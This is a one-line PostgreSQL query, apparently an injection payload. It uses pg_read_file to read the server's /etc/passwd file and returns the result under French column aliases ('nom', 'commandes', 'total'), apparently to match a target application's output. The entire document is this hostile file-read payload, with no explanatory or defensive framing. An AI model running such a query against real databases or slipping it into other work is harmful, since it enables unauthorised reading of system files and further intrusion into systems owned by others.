SELECT pg_read_file('/etc/passwd') AS nom, 1 AS commandes, 1 AS total;
